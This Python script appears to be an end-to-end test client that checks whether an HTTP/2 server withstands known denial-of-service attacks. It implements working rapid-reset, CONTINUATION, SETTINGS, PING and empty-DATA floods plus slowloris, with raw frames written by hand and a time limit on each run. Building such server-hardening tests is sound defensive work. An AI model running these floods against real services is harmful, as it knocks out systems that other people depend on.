#!/usr/bin/env python3
"""Raw-frame HTTP/2 (and HTTP/1.1 slowloris) abuse client for end-to-end tests.

Usage:
    python3 h2_abuse.py MODE HOST PORT [--seconds N] [--path P]
                        [--continuation-size B] [--no-read]
    python3 h2_abuse.py probe HOST PORT [--seconds N] [--path P]

Flood modes (HTTP/2 prior knowledge, frames written by hand):
    rapid_reset         HEADERS(GET, END_STREAM) + RST_STREAM(CANCEL) on ever new streams
    continuation_flood  HEADERS without END_HEADERS, then CONTINUATION frames forever
    settings_flood      non-ACK SETTINGS frames, never answered/awaited
    ping_flood          non-ACK PING frames, never answered/awaited
    empty_data_flood    POST stream, then 0-length DATA frames without END_STREAM
                        (if the server resets the stream, a new POST stream is opened)
HTTP/1.1 mode:
    slowloris           "GET ... HTTP/1.1\\r\\nHost: x\\r\\n" then one header byte per second

Output: exactly one JSON line on stdout:
    {"mode", "closed", "goaway_error_code", "frames_sent", "seconds", ...extra keys}
"closed" means the *server* closed the connection (EOF / ECONNRESET / EPIPE) before
the time limit.

Exit status:
    0  the attack was stopped: h2 modes -> server closed the connection AND a GOAWAY
       with error code 11 (ENHANCE_YOUR_CALM) arrived before the close;
       slowloris -> server closed the connection before the time limit.
       probe -> got a 200 response.
       With --no-read (h2 floods) exit 0 only requires the server to close the
       connection, since a GOAWAY cannot reliably reach a client that never reads.
    1  the attack was not stopped (or probe did not get a 200).
    2  setup error (bad arguments, could not connect).

The script always stops by itself within N+5 seconds (hard alarm at N+4).
"""

import argparse
import collections
import errno
import json
import os
import select
import signal
import socket
import struct
import sys
import time

try:
    import hpack
except ImportError:  # pragma: no cover - hpack ships with the h2 package
    hpack = None

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
# Flags
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4

CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB

H2_MODES = ("rapid_reset", "continuation_flood", "settings_flood", "ping_flood", "empty_data_flood")
ALL_MODES = H2_MODES + ("slowloris", "probe")

# Keep at most this many unsent bytes queued; refill below the low-water mark.
OUT_HIGH = 256 * 1024
OUT_LOW = 64 * 1024

_result_printed = False


def frame(ftype, flags, stream_id, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", (n >> 16) & 0xFF, n & 0xFFFF, ftype, flags, stream_id & 0x7FFFFFFF) + payload


def emit(result, code):
    """Print the single JSON line once and exit with code."""
    global _result_printed
    if not _result_printed:
        _result_printed = True
        sys.stdout.write(json.dumps(result, sort_keys=False) + "\n")
        sys.stdout.flush()
    os._exit(code)


def header_block(method, path, authority):
    """Stateless HPACK block (static-table indexes + never-indexed literals)."""
    if hpack is None:
        # Hand-encoded fallback: indexed :method/:scheme, literal-never-indexed :path/:authority.
        def lit(idx, value):
            v = value.encode()
            assert len(v) < 127
            return bytes([0x10 | idx, len(v)]) + v
        m = b"\x82" if method == "GET" else b"\x83"
        return m + b"\x86" + lit(4, path) + lit(1, authority)
    enc = hpack.Encoder()
    return enc.encode(
        [(":method", method), (":scheme", "http"), (":path", path, True), (":authority", authority, True)],
        huffman=False,
    )


def literal_field(name, value):
    """One never-indexed literal header field representation (stateless)."""
    if hpack is None:
        def hint(n, prefix_bits, first=0):
            maxp = (1 << prefix_bits) - 1
            if n < maxp:
                return bytes([first | n])
            out = [first | maxp]
            n -= maxp
            while n >= 128:
                out.append((n & 0x7F) | 0x80)
                n >>= 7
            out.append(n)
            return bytes(out)
        nb, vb = name.encode(), value.encode()
        return b"\x10" + hint(len(nb), 7) + nb + hint(len(vb), 7) + vb
    return hpack.Encoder().encode([(name, value, True)], huffman=False)


class FrameReader:
    """Incremental parser of server frames; records what the tests care about."""

    def __init__(self):
        self.buf = bytearray()
        self.goaway_error_code = None
        self.goaway_last_stream_id = None
        self.goaway_debug = None
        self.frames_received = 0
        self.settings_acks_received = 0
        self.pending_settings_acks = 0  # server non-ACK SETTINGS we should acknowledge
        self.reset_streams = set()
        self.received_types = collections.Counter()
        # For probe:
        self.header_blocks = {}  # stream -> bytearray (in progress)
        self.completed_headers = {}  # stream -> bytes
        self.bodies = collections.defaultdict(bytearray)
        self.ended_streams = set()
        self._cont_stream = None

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            length = (self.buf[0] << 16) | (self.buf[1] << 8) | self.buf[2]
            if len(self.buf) < 9 + length:
                break
            ftype, flags = self.buf[3], self.buf[4]
            sid = struct.unpack(">I", bytes(self.buf[5:9]))[0] & 0x7FFFFFFF
            payload = bytes(self.buf[9:9 + length])
            del self.buf[:9 + length]
            self._on_frame(ftype, flags, sid, payload)

    def _on_frame(self, ftype, flags, sid, payload):
        self.frames_received += 1
        self.received_types[ftype] += 1
        if ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            # Keep the first error GOAWAY we see (a graceful NO_ERROR one may precede it).
            if self.goaway_error_code in (None, 0):
                self.goaway_last_stream_id = last & 0x7FFFFFFF
                self.goaway_error_code = code
                self.goaway_debug = payload[8:200].decode("latin-1")
        elif ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks_received += 1
            else:
                self.pending_settings_acks += 1
        elif ftype == RST_STREAM:
            self.reset_streams.add(sid)
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                p = payload
                off = 0
                if flags & 0x8:  # PADDED
                    pad = p[0]
                    off = 1
                    p = p[: len(p) - pad] if pad else p
                if flags & 0x20:  # PRIORITY
                    off += 5
                self.header_blocks[sid] = bytearray(p[off:])
            else:
                self.header_blocks.setdefault(sid, bytearray()).extend(payload)
            if flags & END_HEADERS:
                if sid not in self.completed_headers:
                    self.completed_headers[sid] = bytes(self.header_blocks.pop(sid, b""))
                else:
                    self.header_blocks.pop(sid, None)
            if ftype == HEADERS and flags & END_STREAM:
                self.ended_streams.add(sid)
        elif ftype == DATA:
            p = payload
            if flags & 0x8 and p:
                pad = p[0]
                p = p[1: len(p) - pad]
            self.bodies[sid].extend(p)
            if flags & END_STREAM:
                self.ended_streams.add(sid)


class Sent:
    """Counts frames whose last byte has actually been written to the socket."""

    def __init__(self):
        self.enqueued_bytes = 0
        self.segments = collections.deque()  # [start, unit_size, units, frames_per_unit]
        self.frames_done = 0

    def add(self, unit_size, units, frames_per_unit=1):
        self.segments.append([self.enqueued_bytes, unit_size, units, frames_per_unit])
        self.enqueued_bytes += unit_size * units

    def frames_sent(self, bytes_sent):
        while self.segments:
            start, size, units, fpu = self.segments[0]
            if start + size * units <= bytes_sent:
                self.frames_done += units * fpu
                self.segments.popleft()
            else:
                break
        partial = 0
        if self.segments:
            start, size, units, fpu = self.segments[0]
            if bytes_sent > start and size > 0:
                partial = ((bytes_sent - start) // size) * fpu
        return self.frames_done + partial


class Attack:
    def __init__(self, args):
        self.args = args
        self.mode = args.mode
        self.authority = "%s:%d" % (args.host, args.port)
        self.sock = None
        self.out = bytearray()
        self.bytes_sent = 0
        self.sent = Sent()
        self.reader = FrameReader()
        self.closed = False  # closed by the server
        self.close_reason = None
        self.started = None
        self.next_stream = 1
        self.current_stream = None
        self.read_enabled = not args.no_read
        self.extra = {}

    # ---------- helpers ----------
    def enqueue(self, data, unit_size=None, units=1, frames_per_unit=1):
        self.out += data
        if unit_size is None:
            unit_size = len(data)
        self.sent.add(unit_size, units, frames_per_unit)

    def new_stream(self):
        sid = self.next_stream
        self.next_stream += 2
        return sid

    def result(self):
        elapsed = time.monotonic() - self.started if self.started else 0.0
        r = {
            "mode": self.mode,
            "closed": self.closed,
            "goaway_error_code": self.reader.goaway_error_code,
            "frames_sent": self.sent.frames_sent(self.bytes_sent),
            "seconds": round(elapsed, 3),
            "goaway_last_stream_id": self.reader.goaway_last_stream_id,
            "goaway_debug": self.reader.goaway_debug or None,
            "bytes_sent": self.bytes_sent,
            "frames_received": self.reader.frames_received,
            "close_reason": self.close_reason,
        }
        r.update(self.extra)
        return r

    def success(self):
        if not self.read_enabled:
            # A server cannot reliably deliver a GOAWAY to a client that never reads
            # (it sits behind megabytes of unread ACKs), so closing is the defence.
            return self.closed
        return self.closed and self.reader.goaway_error_code == ENHANCE_YOUR_CALM

    def finish(self):
        emit(self.result(), 0 if self.success() else 1)

    # ---------- socket ----------
    def connect(self):
        try:
            self.sock = socket.create_connection((self.args.host, self.args.port), timeout=5)
        except OSError as e:
            emit({"mode": self.mode, "closed": False, "goaway_error_code": None, "frames_sent": 0,
                  "seconds": 0.0, "error": "connect failed: %s" % e}, 2)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.started = time.monotonic()

    def mark_closed(self, reason):
        if not self.closed:
            self.closed = True
            self.close_reason = reason

    def do_read(self):
        try:
            data = self.sock.recv(262144)
        except (BlockingIOError, InterruptedError):
            return
        except OSError as e:
            self.mark_closed(errno.errorcode.get(e.errno, str(e)))
            return
        if not data:
            self.mark_closed("EOF")
            return
        self.reader.feed(data)
        self.on_frames()

    def do_write(self):
        if not self.out:
            return
        try:
            n = self.sock.send(memoryview(self.out)[:65536])
        except (BlockingIOError, InterruptedError):
            return
        except OSError as e:
            self.mark_closed(errno.errorcode.get(e.errno, str(e)))
            return
        del self.out[:n]
        self.bytes_sent += n

    def drain_after_close(self, budget):
        """After a write error, collect whatever the server sent before its close."""
        end = time.monotonic() + budget
        while time.monotonic() < end:
            try:
                r, _, _ = select.select([self.sock], [], [], max(0.0, end - time.monotonic()))
            except (OSError, ValueError):
                return
            if not r:
                return
            try:
                data = self.sock.recv(262144)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                return
            if not data:
                return
            self.reader.feed(data)

    # ---------- protocol ----------
    def on_frames(self):
        # Acknowledge the server's own SETTINGS (a normal client would); nothing else.
        while self.reader.pending_settings_acks > 0:
            self.reader.pending_settings_acks -= 1
            self.enqueue(frame(SETTINGS, ACK, 0))
        if self.mode == "empty_data_flood" and self.current_stream in self.reader.reset_streams:
            # Server refused/reset the stream: keep abusing on a fresh one.
            self.open_post_stream()
            self.extra["streams_opened"] = self.extra.get("streams_opened", 0) + 1

    def open_post_stream(self):
        sid = self.new_stream()
        self.current_stream = sid
        block = header_block("POST", self.args.path, self.authority)
        self.enqueue(frame(HEADERS, END_HEADERS, sid, block))

    def start(self):
        self.enqueue(PREFACE, units=1, frames_per_unit=0)
        self.enqueue(frame(SETTINGS, 0, 0))
        if self.mode == "rapid_reset":
            self.req_block = header_block("GET", self.args.path, self.authority)
            self.rst_payload = struct.pack(">I", CANCEL)
        elif self.mode == "continuation_flood":
            sid = self.new_stream()
            block = header_block("GET", self.args.path, self.authority)
            self.enqueue(frame(HEADERS, END_STREAM, sid, block))  # no END_HEADERS
            size = max(0, self.args.continuation_size)
            if size == 0:
                payload = b""
            else:
                field = literal_field("x-abuse", "a" * max(1, size - 12))
                payload = field
            self.cont_frame = frame(CONTINUATION, 0, sid, payload)
            self.cont_stream = sid
        elif self.mode == "settings_flood":
            # One harmless setting per frame (INITIAL_WINDOW_SIZE = 65535, the default).
            self.flood_frame = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535))
        elif self.mode == "ping_flood":
            self.ping_counter = 0
        elif self.mode == "empty_data_flood":
            self.open_post_stream()
            self.extra["streams_opened"] = 1

    def refill(self):
        batch = 512
        if self.mode == "rapid_reset":
            parts = []
            first = self.next_stream
            for i in range(batch):
                sid = first + 2 * i
                parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, self.req_block))
                parts.append(frame(RST_STREAM, 0, sid, self.rst_payload))
            self.next_stream = first + 2 * batch
            if self.next_stream > 0x7FFFFFFF:
                return  # exhausted stream ids (never happens in practice)
            data = b"".join(parts)
            self.enqueue(data, unit_size=len(data) // batch, units=batch, frames_per_unit=2)
        elif self.mode == "continuation_flood":
            self.enqueue(self.cont_frame * batch, unit_size=len(self.cont_frame), units=batch)
        elif self.mode == "settings_flood":
            self.enqueue(self.flood_frame * batch, unit_size=len(self.flood_frame), units=batch)
        elif self.mode == "ping_flood":
            parts = []
            for i in range(batch):
                self.ping_counter += 1
                parts.append(frame(PING, 0, 0, struct.pack(">Q", self.ping_counter)))
            data = b"".join(parts)
            self.enqueue(data, unit_size=17, units=batch)
        elif self.mode == "empty_data_flood":
            f = frame(DATA, 0, self.current_stream)
            self.enqueue(f * batch, unit_size=len(f), units=batch)

    def run(self):
        self.connect()
        deadline = self.started + self.args.seconds
        self.start()
        while not self.closed:
            now = time.monotonic()
            if now >= deadline:
                break
            if len(self.out) < OUT_LOW:
                while len(self.out) < OUT_HIGH:
                    before = len(self.out)
                    self.refill()
                    if len(self.out) == before:
                        break
            rl = [self.sock] if self.read_enabled else []
            wl = [self.sock] if self.out else []
            try:
                r, w, _ = select.select(rl, wl, [], min(0.1, max(0.0, deadline - now)))
            except InterruptedError:
                continue
            if r:
                self.do_read()
                if self.closed:
                    break
            if w:
                self.do_write()
        if self.closed:
            # Pick up a GOAWAY that may still sit in our receive buffer.
            self.drain_after_close(0.5)
        try:
            self.sock.close()
        except OSError:
            pass
        self.finish()


class Slowloris(Attack):
    def success(self):
        return self.closed

    def run(self):
        self.connect()
        deadline = self.started + self.args.seconds
        self.extra["response"] = None
        first = ("GET %s HTTP/1.1\r\nHost: x\r\n" % self.args.path).encode()
        drip = b"X-a: b\r\n"  # never produces an empty line, so headers never end
        self.out += first
        self.sent.add(len(first), 1)
        resp = bytearray()
        i = 0
        next_drip = time.monotonic() + 1.0
        while not self.closed:
            now = time.monotonic()
            if now >= deadline:
                break
            if now >= next_drip:
                b = drip[i % len(drip): i % len(drip) + 1]
                i += 1
                self.out += b
                self.sent.add(1, 1)
                next_drip += 1.0
            wl = [self.sock] if self.out else []
            timeout = max(0.0, min(next_drip, deadline) - time.monotonic())
            try:
                r, w, _ = select.select([self.sock], wl, [], timeout)
            except InterruptedError:
                continue
            if r:
                try:
                    data = self.sock.recv(65536)
                except (BlockingIOError, InterruptedError):
                    data = None
                except OSError as e:
                    self.mark_closed(errno.errorcode.get(e.errno, str(e)))
                    break
                if data is not None:
                    if not data:
                        self.mark_closed("EOF")
                        break
                    resp += data
                    if self.extra["response"] is None and b"\r\n" in resp:
                        self.extra["response"] = resp.split(b"\r\n", 1)[0].decode("latin-1")
            if w:
                self.do_write()
        if self.extra["response"] is None and resp:
            self.extra["response"] = bytes(resp[:100]).decode("latin-1")
        try:
            self.sock.close()
        except OSError:
            pass
        self.finish()


class Probe(Attack):
    """One well-behaved HTTP/2 prior-knowledge GET; success = :status 200."""

    def success(self):
        return self.extra.get("status") == 200

    def run(self):
        self.connect()
        deadline = self.started + self.args.seconds
        self.enqueue(PREFACE, frames_per_unit=0)
        self.enqueue(frame(SETTINGS, 0, 0))
        sid = self.new_stream()
        self.enqueue(frame(HEADERS, END_STREAM | END_HEADERS, sid,
                           header_block("GET", self.args.path, self.authority)))
        self.extra["status"] = None
        while not self.closed and time.monotonic() < deadline:
            if sid in self.reader.ended_streams or sid in self.reader.reset_streams:
                break
            if self.reader.goaway_error_code is not None and self.reader.goaway_last_stream_id < sid:
                break
            wl = [self.sock] if self.out else []
            r, w, _ = select.select([self.sock], wl, [], max(0.0, min(0.1, deadline - time.monotonic())))
            if r:
                self.do_read()
            if w:
                self.do_write()
        block = self.reader.completed_headers.get(sid)
        if block is not None:
            try:
                if hpack is None:
                    raise RuntimeError("hpack module not available")
                headers = hpack.Decoder().decode(block)
                for k, v in headers:
                    k = k.decode() if isinstance(k, bytes) else k
                    v = v.decode() if isinstance(v, bytes) else v
                    if k == ":status":
                        self.extra["status"] = int(v)
            except Exception as e:  # noqa: BLE001 - report, don't crash
                self.extra["error"] = "header decode failed: %s" % e
        self.extra["body"] = bytes(self.reader.bodies.get(sid, b""))[:200].decode("utf-8", "replace")
        self.extra["stream_reset"] = sid in self.reader.reset_streams
        try:
            self.sock.close()
        except OSError:
            pass
        self.finish()


def main():
    p = argparse.ArgumentParser(description="HTTP/2 abuse client for end-to-end tests")
    p.add_argument("mode", choices=ALL_MODES)
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--seconds", type=float, default=None,
                   help="attack duration (default 15; probe default 5)")
    p.add_argument("--path", default="/healthz")
    p.add_argument("--continuation-size", type=int, default=256,
                   help="approximate CONTINUATION payload size in bytes; 0 = empty frames")
    p.add_argument("--no-read", action="store_true",
                   help="h2 floods: do not read the socket while flooding (closure is then "
                        "detected by write errors, the receive buffer is drained afterwards); "
                        "success then only requires the server to close the connection")
    args = p.parse_args()
    if args.seconds is None:
        args.seconds = 5.0 if args.mode == "probe" else 15.0
    if args.seconds <= 0:
        p.error("--seconds must be positive")

    if args.mode == "slowloris":
        attack = Slowloris(args)
    elif args.mode == "probe":
        attack = Probe(args)
    else:
        attack = Attack(args)

    # Hard stop: whatever happens, report and exit within N+5 seconds.
    def on_alarm(signum, frm):
        try:
            res = attack.result()
            res["error"] = "hard timeout"
        except Exception:  # noqa: BLE001
            res = {"mode": args.mode, "closed": False, "goaway_error_code": None,
                   "frames_sent": 0, "seconds": args.seconds, "error": "hard timeout"}
        emit(res, 1)

    signal.signal(signal.SIGALRM, on_alarm)
    signal.setitimer(signal.ITIMER_REAL, args.seconds + 4.0)
    attack.run()


if __name__ == "__main__":
    main()
